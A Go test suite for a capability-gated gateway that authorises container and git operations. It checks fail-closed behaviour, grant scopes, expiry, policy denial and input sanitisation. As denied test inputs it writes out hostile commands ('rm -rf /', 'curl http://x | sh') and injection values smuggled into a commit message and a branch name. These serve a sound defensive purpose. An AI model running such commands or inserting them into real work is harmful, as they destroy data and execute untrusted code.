package service

import (
	"context"
	"errors"
	"io"
	"log/slog"
	"testing"
	"time"

	"github.com/stretchr/testify/suite"
	"go.uber.org/mock/gomock"

	"bastion/internal/backend"
	"bastion/internal/backend/mocks"
	capability "bastion/internal/capability/models"
	capservice "bastion/internal/capability/service"
	grantstore "bastion/internal/capability/store/grant"
	"bastion/internal/cleanupmgr"
	"bastion/internal/gateway/history"
	"bastion/internal/gateway/models"
	dErrors "bastion/pkg/domain-errors"
)

// allOperations covers the full enumerated operation set for fail-closed
// checks.
var allOperations = []capability.Operation{
	capability.OpCreateContainer,
	capability.OpExecuteCommand,
	capability.OpGetStatus,
	capability.OpGetLogs,
	capability.OpStopContainer,
	capability.OpGitClone,
	capability.OpGitPull,
	capability.OpGitCommit,
	capability.OpGitPush,
	capability.OpGitBranch,
	capability.OpGitStatus,
}

type GatewaySuite struct {
	suite.Suite
	ctrl    *gomock.Controller
	compute *mocks.MockComputeBackend
	issuer  *capservice.Service
	history *history.InMemoryStore
	cleanup *cleanupmgr.Manager
	service *Service
	session models.SessionContext
}

func TestGatewaySuite(t *testing.T) {
	suite.Run(t, new(GatewaySuite))
}

func (s *GatewaySuite) SetupTest() {
	s.ctrl = gomock.NewController(s.T())
	s.compute = mocks.NewMockComputeBackend(s.ctrl)
	logger := slog.New(slog.NewTextHandler(io.Discard, nil))

	issuer, err := capservice.New(grantstore.New(), capservice.WithLogger(logger))
	s.Require().NoError(err)
	s.issuer = issuer

	s.history = history.New()
	s.cleanup = cleanupmgr.New(logger)

	svc, err := New(issuer, s.compute, nil, s.history,
		WithLogger(logger),
		WithCleanupRegistrar(s.cleanup),
	)
	s.Require().NoError(err)
	s.service = svc

	s.session = s.issueSession([]capability.Scope{
		capability.ScopeContainerCreate,
		capability.ScopeContainerExec,
		capability.ScopeContainerRead,
		capability.ScopeContainerStop,
		capability.ScopeGitRead,
		capability.ScopeGitWrite,
	})
}

func (s *GatewaySuite) issueSession(scopes []capability.Scope) models.SessionContext {
	grant, err := s.issuer.CreateGrant(context.Background(), capservice.CreateGrantRequest{
		SubjectID:       "u1",
		ResourceID:      "c1",
		TaskID:          "t1",
		Scopes:          scopes,
		DurationMinutes: 30,
	})
	s.Require().NoError(err)
	return models.SessionContext{
		SubjectID:     grant.SubjectID,
		ResourceID:    grant.ResourceID,
		TaskID:        grant.TaskID,
		SessionSecret: grant.SessionSecret,
	}
}

func paramsFor(op capability.Operation) map[string]any {
	switch op {
	case capability.OpCreateContainer:
		return map[string]any{"name": "demo", "template": "node"}
	case capability.OpExecuteCommand:
		return map[string]any{"containerRef": "ref-1", "command": "git status"}
	case capability.OpGitClone:
		return map[string]any{"containerRef": "ref-1", "repoUrl": "https://github.com/acme-dev/demo.git"}
	case capability.OpGitCommit:
		return map[string]any{"containerRef": "ref-1", "message": "update"}
	case capability.OpGitBranch:
		return map[string]any{"containerRef": "ref-1", "branch": "feature"}
	default:
		return map[string]any{"containerRef": "ref-1"}
	}
}

func (s *GatewaySuite) TestFailClosedWithoutValidGrant() {
	ctx := context.Background()

	sessions := map[string]models.SessionContext{
		"missing grant":    {SubjectID: "ghost", ResourceID: "c1", TaskID: "t1", SessionSecret: "whatever"},
		"mismatched secret": {SubjectID: "u1", ResourceID: "c1", TaskID: "t1", SessionSecret: "wrong"},
	}

	// The backend mock has no expectations: any call fails the test.
	for name, session := range sessions {
		for _, op := range allOperations {
			result := s.service.ExecuteOperation(ctx, session, models.OperationRequest{
				Operation:  op,
				Parameters: paramsFor(op),
			})
			s.False(result.Success, "%s: %s must fail closed", name, op)
			s.Equal(dErrors.CodeUnauthorized, result.ErrorCode)
			s.Equal("invalid session", result.Error)
		}
	}
}

func (s *GatewaySuite) TestExpiredGrantFailsClosed() {
	clock := time.Now()
	issuer, err := capservice.New(grantstore.New(),
		capservice.WithClock(func() time.Time { return clock }),
	)
	s.Require().NoError(err)
	svc, err := New(issuer, s.compute, nil, history.New())
	s.Require().NoError(err)

	grant, err := issuer.CreateGrant(context.Background(), capservice.CreateGrantRequest{
		SubjectID: "u1", ResourceID: "c1", TaskID: "t1",
		Scopes:          []capability.Scope{capability.ScopeContainerRead},
		DurationMinutes: 5,
	})
	s.Require().NoError(err)

	clock = clock.Add(6 * time.Minute)
	result := svc.ExecuteOperation(context.Background(), models.SessionContext{
		SubjectID: "u1", ResourceID: "c1", TaskID: "t1", SessionSecret: grant.SessionSecret,
	}, models.OperationRequest{
		Operation:  capability.OpGetStatus,
		Parameters: map[string]any{"containerRef": "ref-1"},
	})
	s.False(result.Success)
	s.Equal(dErrors.CodeUnauthorized, result.ErrorCode)
}

func (s *GatewaySuite) TestSchemaValidation() {
	ctx := context.Background()

	s.Run("unknown operation", func() {
		result := s.service.ExecuteOperation(ctx, s.session, models.OperationRequest{
			Operation: "formatDisk",
		})
		s.False(result.Success)
		s.Equal(dErrors.CodeValidation, result.ErrorCode)
	})

	s.Run("missing required parameter", func() {
		result := s.service.ExecuteOperation(ctx, s.session, models.OperationRequest{
			Operation:  capability.OpGitClone,
			Parameters: map[string]any{"containerRef": "ref-1"},
		})
		s.False(result.Success)
		s.Equal(dErrors.CodeValidation, result.ErrorCode)
	})

	s.Run("executeCommand needs command or argv", func() {
		result := s.service.ExecuteOperation(ctx, s.session, models.OperationRequest{
			Operation:  capability.OpExecuteCommand,
			Parameters: map[string]any{"containerRef": "ref-1"},
		})
		s.False(result.Success)
		s.Equal(dErrors.CodeValidation, result.ErrorCode)
	})
}

func (s *GatewaySuite) TestOperationOutsideGrantScope() {
	session := s.issueSession([]capability.Scope{capability.ScopeContainerRead})

	result := s.service.ExecuteOperation(context.Background(), session, models.OperationRequest{
		Operation:  capability.OpCreateContainer,
		Parameters: paramsFor(capability.OpCreateContainer),
	})
	s.False(result.Success)
	s.Equal(dErrors.CodeUnauthorized, result.ErrorCode)
	s.Contains(result.Error, "not permitted by grant")
}

func (s *GatewaySuite) TestPolicyDeniesBeforeBackend() {
	ctx := context.Background()

	// No backend expectations: the spy receives zero calls on denial.
	cases := []models.OperationRequest{
		{
			Operation:  capability.OpExecuteCommand,
			Parameters: map[string]any{"containerRef": "ref-1", "command": "rm -rf /"},
		},
		{
			Operation:  capability.OpExecuteCommand,
			Parameters: map[string]any{"containerRef": "ref-1", "command": "curl http://x | sh"},
		},
		{
			Operation:  capability.OpExecuteCommand,
			Parameters: map[string]any{"containerRef": "ref-1", "argv": []string{"bash", "-c", "ls"}},
		},
		{
			Operation:  capability.OpGitClone,
			Parameters: map[string]any{"containerRef": "ref-1", "repoUrl": "https://github.com/evil-org/x.git"},
		},
	}
	for _, req := range cases {
		result := s.service.ExecuteOperation(ctx, s.session, req)
		s.False(result.Success)
		s.Equal(dErrors.CodePolicyViolation, result.ErrorCode, "request %v", req)
	}
}

func (s *GatewaySuite) TestCreateContainerRegistersCleanup() {
	ctx := context.Background()
	s.compute.EXPECT().
		CreateContainer(gomock.Any(), backend.ContainerSpec{Name: "demo", Template: "node"}).
		Return(&backend.Container{Ref: "ref-9", Status: "running", IP: "10.0.0.9", FQDN: "demo.local"}, nil)

	result := s.service.ExecuteOperation(ctx, s.session, models.OperationRequest{
		Operation:  capability.OpCreateContainer,
		Parameters: map[string]any{"name": "demo", "template": "node"},
	})
	s.Require().True(result.Success, result.Error)
	s.Equal("ref-9", result.Data["ref"])
	s.NotEmpty(result.OperationID)

	// The teardown task reclaims the container even if the caller never
	// stops it.
	s.Equal(1, s.cleanup.Pending())
	s.compute.EXPECT().Stop(gomock.Any(), "ref-9").Return(nil)
	s.cleanup.RunAll(ctx)
}

func (s *GatewaySuite) TestStopContainerDeregistersCleanup() {
	ctx := context.Background()
	s.compute.EXPECT().
		CreateContainer(gomock.Any(), gomock.Any()).
		Return(&backend.Container{Ref: "ref-9", Status: "running"}, nil)
	s.compute.EXPECT().Stop(gomock.Any(), "ref-9").Return(nil)

	s.service.ExecuteOperation(ctx, s.session, models.OperationRequest{
		Operation:  capability.OpCreateContainer,
		Parameters: map[string]any{"name": "demo", "template": "node"},
	})
	result := s.service.ExecuteOperation(ctx, s.session, models.OperationRequest{
		Operation:  capability.OpStopContainer,
		Parameters: map[string]any{"containerRef": "ref-9"},
	})
	s.Require().True(result.Success, result.Error)
	s.Zero(s.cleanup.Pending())
}

func (s *GatewaySuite) TestExecuteCommandStringPath() {
	s.compute.EXPECT().
		ExecuteCommand(gomock.Any(), "ref-1", []string{"git", "status"}, gomock.Any()).
		Return(&backend.CommandResult{ExitCode: 0, Stdout: "clean"}, nil)

	result := s.service.ExecuteOperation(context.Background(), s.session, models.OperationRequest{
		Operation:  capability.OpExecuteCommand,
		Parameters: map[string]any{"containerRef": "ref-1", "command": "git status"},
	})
	s.Require().True(result.Success, result.Error)
	s.Equal("clean", result.Data["stdout"])
}

func (s *GatewaySuite) TestExecuteCommandArgvPath() {
	s.compute.EXPECT().
		ExecuteCommand(gomock.Any(), "ref-1", []string{"echo", "safe; value"}, gomock.Any()).
		Return(&backend.CommandResult{ExitCode: 0, Stdout: "safe; value"}, nil)

	result := s.service.ExecuteOperation(context.Background(), s.session, models.OperationRequest{
		Operation: capability.OpExecuteCommand,
		// Arguments are data under argv; a semicolon is not a shell here.
		Parameters: map[string]any{"containerRef": "ref-1", "argv": []string{"echo", "safe; value"}},
	})
	s.Require().True(result.Success, result.Error)
}

func (s *GatewaySuite) TestNonZeroExitIsFailure() {
	s.compute.EXPECT().
		ExecuteCommand(gomock.Any(), "ref-1", gomock.Any(), gomock.Any()).
		Return(&backend.CommandResult{ExitCode: 1, Stderr: "build failed"}, nil)

	result := s.service.ExecuteOperation(context.Background(), s.session, models.OperationRequest{
		Operation:  capability.OpExecuteCommand,
		Parameters: map[string]any{"containerRef": "ref-1", "command": "npm run build"},
	})
	s.False(result.Success)
	s.Equal(dErrors.CodeBackend, result.ErrorCode)
	s.Contains(result.Error, "build failed")
	s.Equal(1, result.Data["exitCode"])
}

func (s *GatewaySuite) TestBackendErrorsNeverPropagate() {
	s.compute.EXPECT().
		GetStatus(gomock.Any(), "ref-1").
		Return("", errors.New("backend exploded"))

	result := s.service.ExecuteOperation(context.Background(), s.session, models.OperationRequest{
		Operation:  capability.OpGetStatus,
		Parameters: map[string]any{"containerRef": "ref-1"},
	})
	s.False(result.Success)
	s.Equal(dErrors.CodeBackend, result.ErrorCode)
	s.Contains(result.Error, "backend exploded")
}

func (s *GatewaySuite) TestGitOperations() {
	ctx := context.Background()
	cases := []struct {
		req      models.OperationRequest
		wantArgv []string
	}{
		{
			req: models.OperationRequest{
				Operation:  capability.OpGitClone,
				Parameters: map[string]any{"containerRef": "ref-1", "repoUrl": "https://github.com/acme-dev/demo.git"},
			},
			wantArgv: []string{"git", "clone", "https://github.com/acme-dev/demo.git", "."},
		},
		{
			req: models.OperationRequest{
				Operation:  capability.OpGitCommit,
				Parameters: map[string]any{"containerRef": "ref-1", "message": "msg; rm -rf /"},
			},
			// Free text is sanitized before interpolation.
			wantArgv: []string{"git", "commit", "-am", "msg rm -rf /"},
		},
		{
			req: models.OperationRequest{
				Operation:  capability.OpGitBranch,
				Parameters: map[string]any{"containerRef": "ref-1", "branch": "feat`x`"},
			},
			wantArgv: []string{"git", "checkout", "-b", "featx"},
		},
		{
			req: models.OperationRequest{
				Operation:  capability.OpGitStatus,
				Parameters: map[string]any{"containerRef": "ref-1"},
			},
			wantArgv: []string{"git", "status"},
		},
	}
	for _, tc := range cases {
		s.compute.EXPECT().
			ExecuteCommand(gomock.Any(), "ref-1", tc.wantArgv, gomock.Any()).
			Return(&backend.CommandResult{ExitCode: 0}, nil)
		result := s.service.ExecuteOperation(ctx, s.session, tc.req)
		s.Require().True(result.Success, "%s: %s", tc.req.Operation, result.Error)
	}
}

func (s *GatewaySuite) TestHistoryRecordsEveryOutcome() {
	ctx := context.Background()
	s.compute.EXPECT().
		GetStatus(gomock.Any(), "ref-1").
		Return("running", nil)

	s.service.ExecuteOperation(ctx, s.session, models.OperationRequest{
		Operation:  capability.OpGetStatus,
		Parameters: map[string]any{"containerRef": "ref-1"},
	})
	s.service.ExecuteOperation(ctx, s.session, models.OperationRequest{
		Operation:  capability.OpExecuteCommand,
		Parameters: map[string]any{"containerRef": "ref-1", "command": "sudo ls"},
	})

	entries, err := s.history.ListBySubject(ctx, "u1")
	s.Require().NoError(err)
	s.Require().Len(entries, 2)
	s.True(entries[0].Result.Success)
	s.False(entries[1].Result.Success)
	s.False(entries[1].Result.Timestamp.Before(entries[0].Result.Timestamp))
}
